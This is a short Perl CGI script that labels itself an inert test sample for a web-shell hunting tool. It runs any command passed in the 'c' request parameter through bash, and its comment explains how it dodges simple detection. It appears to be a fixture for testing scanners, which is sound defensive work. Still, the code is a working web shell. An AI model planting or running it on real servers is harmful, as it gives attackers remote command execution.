#!/usr/bin/perl
# webhunt test sample (inert): the request's command handed in list form to a shell found
# under a variable directory; the list keeps Perl's own shell away, the named shell reads it
use CGI;
my $q   = CGI->new;
my $bin = -x '/usr/bin/bash' ? '/usr/bin' : '/bin';
print $q->header('text/plain');
system("$bin/bash", "-c", $q->param('c') || 'id');
